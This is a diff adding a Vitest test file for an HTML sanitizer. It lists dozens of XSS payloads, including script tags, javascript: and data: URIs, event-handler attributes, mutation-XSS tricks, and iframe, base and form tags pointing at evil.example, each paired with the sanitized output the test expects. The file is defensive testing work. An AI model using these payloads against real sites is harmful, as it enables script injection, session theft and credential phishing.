@@ -1,0 +1,184 @@
+import { describe, expect, it } from 'vitest';
+import { sanitizeHtml, sanitizeToFragment } from '#src/lib/html/sanitize-html.ts';
+
+function clean(html: string, resolve?: (address: string) => string): string {
+  return String(sanitizeHtml(html, { resolve }));
+}
+
+/** Malicious markup with its expected result. */
+const ATTACKS: [dirty: string, left: string][] = [
+  ['<script>alert(1)</script>', ''],
+  ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', ''],
+  ['a<script>alert(1)</script>b', 'ab'],
+  ['<<SCRIPT>alert("x");//\\<</SCRIPT>', '&lt;'],
+  ['<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>', ''],
+  ['<SCR\0IPT>alert(1)</SCR\0IPT>', 'alert(1)'],
+  ['<img src=x onerror=alert(1)>', '<img src="x" alt="" loading="lazy" decoding="async">'],
+  ['<img src="javascript:alert(1)">', ''],
+  ['<IMG SRC=JaVaScRiPt:alert(1)>', ''],
+  ['<img src="jav&#x09;ascript:alert(1)">', ''],
+  ['<img src="&#14; javascript:alert(1)">', ''],
+  ['<img src="vbscript:msgbox(1)">', ''],
+  ['<img src="data:text/html,<script>alert(1)</script>">', ''],
+  ['<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ''],
+  ['<img src="//evil.example/beacon.gif">', ''],
+  ['<img src="/\\evil.example/beacon.gif">', ''],
+  ['<img src="blob:https://evil.example/1">', ''],
+  ['<img dynsrc="javascript:alert(1)">', ''],
+  ['<img """><script>alert(1)</script>">', '"&gt;'],
+  [
+    '<img src=x srcset="https://evil.example/x 1x" sizes="1px">',
+    '<img src="x" alt="" loading="lazy" decoding="async">',
+  ],
+  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="java\nscript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href=" &#1; javascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a>x</a>'],
+  ['<a href="vbscript:x">x</a>', '<a>x</a>'],
+  ['<a href="//evil.example">x</a>', '<a>x</a>'],
+  ['<a href="/\\evil.example">x</a>', '<a>x</a>'],
+  ['<a href="https://bank.example@evil.example/">x</a>', '<a>x</a>'],
+  ['<a href="file:///etc/passwd">x</a>', '<a>x</a>'],
+  ['<a onmouseover="alert(1)">x</a>', '<a>x</a>'],
+  [
+    '<a href="https://e.example" target="_self" onclick=alert(1)>x</a>',
+    '<a href="https://e.example" target="_blank" rel="noopener">x</a>',
+  ],
+  ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
+  ['<body onload=alert(1)>x', 'x'],
+  ['<svg onload=alert(1)></svg>', ''],
+  ['<svg><script>alert(1)</script></svg>', ''],
+  ['<svg><animate onbegin=alert(1)></svg>', ''],
+  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ''],
+  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ''],
+  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
+  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', ''],
+  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
+  ['<iframe src="https://evil.example"></iframe>', ''],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
+  ['<object data="https://evil.example/x.swf">x</object>', ''],
+  ['<embed src="https://evil.example/x.swf">', ''],
+  ['<applet code=x>x</applet>', 'x'],
+  ['<base href="https://evil.example/">', ''],
+  ['<link rel=stylesheet href="https://evil.example/x.css">', ''],
+  ['<meta http-equiv=refresh content="0;url=https://evil.example">', ''],
+  ['<style>body{display:none}</style>x', 'x'],
+  ['<style>@import "https://evil.example/x.css"', ''],
+  ['<p style="position:fixed;inset:0;background:red">x</p>', '<p>x</p>'],
+  ['<div style="background:url(javascript:alert(1))">x</div>', '<div>x</div>'],
+  ['<p style="width:expression(alert(1))">x</p>', '<p>x</p>'],
+  [
+    '<form action="https://evil.example"><input type=password name=p><button>go</button></form>',
+    'go',
+  ],
+  ['<textarea>x</textarea>', ''],
+  ['<select><option>x</select>', ''],
+  ['<button formaction="javascript:alert(1)">x</button>', 'x'],
+  ['<isindex action="javascript:alert(1)">', ''],
+  ['<dialog open>x</dialog>', 'x'],
+  ['<details open ontoggle=alert(1)><summary>x</summary></details>', 'x'],
+  ['<p id="root">x</p>', '<p>x</p>'],
+  ['<img name="body" src="/a.png">', '<img src="/a.png" alt="" loading="lazy" decoding="async">'],
+  ['<p class="MuiDialog-root align-center evil">x</p>', '<p class="align-center">x</p>'],
+  [
+    '<p contenteditable tabindex=1 accesskey=a role=alert aria-label=x data-x=1 hidden>x</p>',
+    '<p>x</p>',
+  ],
+  ['<video src="x" onerror=alert(1)></video>', ''],
+  ['<audio src="x" onloadstart=alert(1)></audio>', ''],
+  ['<template><img src=x onerror=alert(1)></template>', ''],
+  ['<x-evil onclick=alert(1)>x</x-evil>', 'x'],
+  ['<marquee onstart=alert(1)>x</marquee>', 'x'],
+  ['<xmp><img src=x onerror=alert(1)></xmp>', ''],
+  ['<plaintext><img src=x onerror=alert(1)>', ''],
+  ['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', ''],
+  ['<?xml version="1.0"?><script>alert(1)</script>', ''],
+  ['<![CDATA[<script>alert(1)</script>]]>', 'alert(1)]]&gt;'],
+  ['<td background="javascript:alert(1)">x', 'x'],
+  [
+    '<img src="/a.png" width="99999" height="-1">',
+    '<img src="/a.png" alt="" loading="lazy" decoding="async">',
+  ],
+  [
+    '<table><tbody><tr><td colspan="9999" rowspan="0">x</td></tr></tbody></table>',
+    '<table tabindex="0"><tbody><tr><td>x</td></tr></tbody></table>',
+  ],
+];
+
+describe('sanitizeHtml', () => {
+  it.each(ATTACKS)('B9: makes %s harmless', (dirty, left) => {
+    expect(clean(dirty)).toBe(left);
+    // Sanitising is idempotent.
+    expect(clean(left)).toBe(left);
+  });
+
+  it.each([
+    ['<h2>标题</h2><p>正文<strong>重点</strong></p>'],
+    ['<ul><li><p>一</p><ol start="3"><li>二</li></ol></li></ul>'],
+    ['<blockquote><p>引用</p></blockquote><pre><code>x &lt; 1</code></pre><hr>'],
+    ['<p class="align-end">右</p>'],
+    [
+      '<p><a href="/news?id=1#a">站内</a><a href="mailto:a@example.com">信</a><a href="tel:400">电</a></p>',
+    ],
+  ])('B9: keeps %s', (html) => {
+    expect(clean(html)).toBe(html);
+  });
+
+  it('B9: keeps structure in the elements of other editors', () => {
+    expect(clean('<section><h1>一</h1><h5>二</h5><center>三</center></section>')).toBe(
+      '<div><h2>一</h2><h4>二</h4><div class="align-center">三</div></div>',
+    );
+  });
+
+  it.each([
+    ['<p style="color:red;text-align: center">x</p>', '<p class="align-center">x</p>'],
+    ['<p align="right">x</p>', '<p class="align-end">x</p>'],
+    ['<h1 style="text-align:justify">x</h1>', '<h2 class="align-justify">x</h2>'],
+    ['<p style="text-align:left">x</p>', '<p>x</p>'],
+  ])('B9: reads the alignment of %s', (html, expected) => {
+    expect(clean(html)).toBe(expected);
+  });
+
+  it('B9: opens other sites in a new tab, without access to this one', () => {
+    expect(clean('<a href="https://example.com/a">x</a>')).toBe(
+      '<a href="https://example.com/a" target="_blank" rel="noopener">x</a>',
+    );
+    expect(clean(`<a href="${location.origin}/a">x</a>`)).not.toContain('target');
+  });
+
+  it('B9: loads pictures lazily, in the needed width, from the full address', () => {
+    const html = clean(
+      '<img src="/a.avif?widths=480-960" width="960" height="600" alt="温室">',
+      (path) => `https://assets.example${path}`,
+    );
+    const image = new DOMParser().parseFromString(html, 'text/html').querySelector('img');
+    expect(image?.getAttribute('src')).toBe('https://assets.example/a.avif?widths=480-960');
+    expect(image?.getAttribute('srcset')).toContain('widths=480-960&w=480 480w');
+    expect(image?.getAttribute('width')).toBe('960');
+    expect(image?.getAttribute('loading')).toBe('lazy');
+  });
+
+  it('B9: cuts what is longer than 512 kB', () => {
+    expect(clean(`<p>${'长'.repeat(600 * 1024)}</p>`).length).toBeLessThanOrEqual(512 * 1024 + 10);
+  });
+
+  it.each([['<b>'], ['<div>'], ['<x>'], ['<ul><li>'], ['<table><tr><td>'], ['<i a=1><p>']])(
+    'B9: reads %s a hundred thousand times as text',
+    (tag) => {
+      expect(clean(`${tag}字`.repeat(100_000))).not.toContain('<');
+    },
+  );
+
+  it('B9: returns nothing for a frameset', () => {
+    expect(sanitizeToFragment('<frameset><frame src="x"></frameset>').childNodes).toHaveLength(0);
+    expect(clean('<frameset><frame src="x"></frameset>')).toBe('');
+  });
+
+  it('B9: returns nodes for processing without the attributes for display', () => {
+    const holder = document.createElement('div');
+    holder.append(
+      sanitizeToFragment('<a href="https://example.com">x</a><img src="/a.png"><script>1</script>'),
+    );
+    expect(holder.innerHTML).toBe('<a href="https://example.com">x</a><img src="/a.png" alt="">');
+  });
+});
